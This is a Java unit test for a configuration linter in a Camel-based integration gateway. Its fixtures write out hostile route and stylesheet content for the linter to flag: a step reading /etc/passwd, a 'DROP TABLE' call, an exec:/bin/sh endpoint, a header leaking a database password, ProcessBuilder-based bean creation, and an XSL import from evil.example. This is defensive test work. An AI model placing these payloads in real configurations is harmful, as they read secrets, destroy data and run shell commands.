package vn.lienthong.gateway.catalog;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The lint keeps IT files to approved blocks and steps: the shipped routes, kamelets and configuration pass; each way
 * of smuggling code into a route or a mapping is named with its file and line.
 */
class ConfigLintTest {

    @TempDir
    Path dir;

    @Test
    void theShippedRoutesKameletsAndConfigurationPass() {
        assertThat(new ConfigLint(Path.of("routes"), Path.of("config")).problems()).isEmpty();
    }

    @Test
    void codeInARouteIsNamedWithItsLine() throws IOException {
        Path routes = Files.createDirectories(dir.resolve("routes"));
        Path file = routes.resolve("smuggled.yaml");
        Files.writeString(file, """
                - route:
                    id: smuggled
                    from:
                      uri: direct:smuggled
                      steps:
                        - groovy: "new File('/etc/passwd').text"
                        - bean:
                            ref: jdbcTemplate
                            method: "execute('DROP TABLE dossier')"
                        - to:
                            uri: exec:/bin/sh
                        - setHeader:
                            name: Leak
                            simple: "${env.GATEWAY_DB_PASSWORD}"
                        - setBody:
                            simple: "${body.getClass().getClassLoader()}"
                        - setProperty:
                            name: x
                            language:
                              language: python
                              expression: "1"
                        - process:
                            ref: "#class:com.example.Evil"
                        - bean:
                            beanType: com.example.Evil
                        - to:
                            uri: jms:queue:x
                            parameters:
                              connectionFactory: "#myOwnFactory"
                        - resequence: {}
                        - bean:
                            ref: trackingEvents
                            method: "record(${exchange}, 'RECEIVED', 'from ${header.GatewaySystem}')"
                """);
        assertThat(new ConfigLint(routes, dir.resolve("no-config")).problems()).containsExactly(
                file + ":6: 'groovy' runs code; routes may use only the approved steps and the gateway's own beans",
                file + ":8: 'jdbcTemplate' is not one of the gateway's approved beans (" + String.join(", ",
                        ConfigLint.BEANS.stream().sorted(String.CASE_INSENSITIVE_ORDER).toList()) + ")",
                file + ":11: the endpoint scheme 'exec' is not allowed (" + String.join(", ",
                        ConfigLint.SCHEMES.stream().sorted(String.CASE_INSENSITIVE_ORDER).toList()) + ")",
                file + ":14: the expression '${env.GATEWAY_DB_PASSWORD}' reaches beyond the message (beans, classes,"
                        + " the Camel context or the environment)",
                file + ":16: the expression '${body.getClass().getClassLoader()}' calls a method; expressions may"
                        + " only read the message, its headers and properties",
                file + ":20: the expression language 'python' is not allowed (constant, exchangeProperty, header, jq,"
                        + " jsonpath, simple, tokenize, xpath, xtokenize)",
                file + ":23: '#class:com.example.Evil' is not one of the gateway's approved beans (" + String.join(
                        ", ", ConfigLint.BEANS.stream().sorted(String.CASE_INSENSITIVE_ORDER).toList()) + ")",
                file + ":23: '#class:com.example.Evil' creates an object of a named class; name one of the gateway's"
                        + " beans instead",
                file + ":25: a bean step must name the gateway bean it calls with 'ref'",
                file + ":25: 'beanType' runs code; routes may use only the approved steps and the gateway's own beans",
                file + ":29: '#myOwnFactory' refers to a bean that is not one of the gateway's approved beans",
                file + ":30: the step 'resequence' is not an approved step (" + String.join(", ",
                        ConfigLint.STEPS.stream().sorted(String.CASE_INSENSITIVE_ORDER).toList()) + ")");
    }

    @Test
    void aKameletsBeanIsMadeOnlyByItsApprovedFactory() throws IOException {
        Path routes = Files.createDirectories(dir.resolve("routes"));
        Path file = routes.resolve("evil-sink.kamelet.yaml");
        Files.writeString(file, """
                apiVersion: camel.apache.org/v1
                kind: Kamelet
                metadata:
                  name: evil-sink
                spec:
                  template:
                    beans:
                      - name: ok
                        type: "#class:vn.lienthong.gateway.delivery.AgencyBrokers"
                        factoryMethod: connectionFactory
                        destroyMethod: destroy
                      - name: runner
                        type: "#class:vn.lienthong.gateway.delivery.AgencyBrokers"
                        builderClass: java.lang.ProcessBuilder
                        factoryMethod: start
                        initMethod: exec
                """);
        assertThat(new ConfigLint(routes, dir.resolve("no-config")).problems()).containsExactly(
                file + ":14: 'builderClass: java.lang.ProcessBuilder' runs code; a kamelet's bean is made by its"
                        + " approved class, without 'builderClass'",
                file + ":15: 'factoryMethod: start' runs code; a kamelet's bean is made by its approved class, and"
                        + " 'factoryMethod' may only be connectionFactory",
                file + ":16: 'initMethod: exec' runs code; a kamelet's bean is made by its approved class, without"
                        + " 'initMethod'");
    }

    @Test
    void aMappingMayNotReadWriteOrCallOutside() throws IOException {
        Path config = Files.createDirectories(dir.resolve("config/mappings"));
        Path xsl = config.resolve("nosy.xsl");
        Files.writeString(xsl, """
                <xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
                    xmlns:saxon="http://saxon.sf.net/">
                  <xsl:include href="common.xsl"/>
                  <xsl:import href="https://evil.example/x.xsl"/>
                  <xsl:template match="/">
                    <secret><xsl:value-of select="unparsed-text('file:///etc/passwd')"/></secret>
                    <xsl:result-document href="/tmp/out.xml"><x/></xsl:result-document>
                    <ok><xsl:value-of select="json/dossierCode"/></ok>
                  </xsl:template>
                </xsl:stylesheet>
                """);
        assertThat(new ConfigLint(dir.resolve("no-routes"), dir.resolve("config")).problems())
                .extracting(p -> p.substring(0, p.indexOf(": ") + 2) + p.substring(p.indexOf(": ") + 2,
                        p.indexOf("' ") + 1))
                .containsExactly(xsl + ":2: 'http://saxon.sf.net/'",
                        xsl + ":4: 'https://evil.example/x.xsl'",
                        xsl + ":6: 'unparsed-text('",
                        xsl + ":7: '<xsl:result-document'");
    }
}
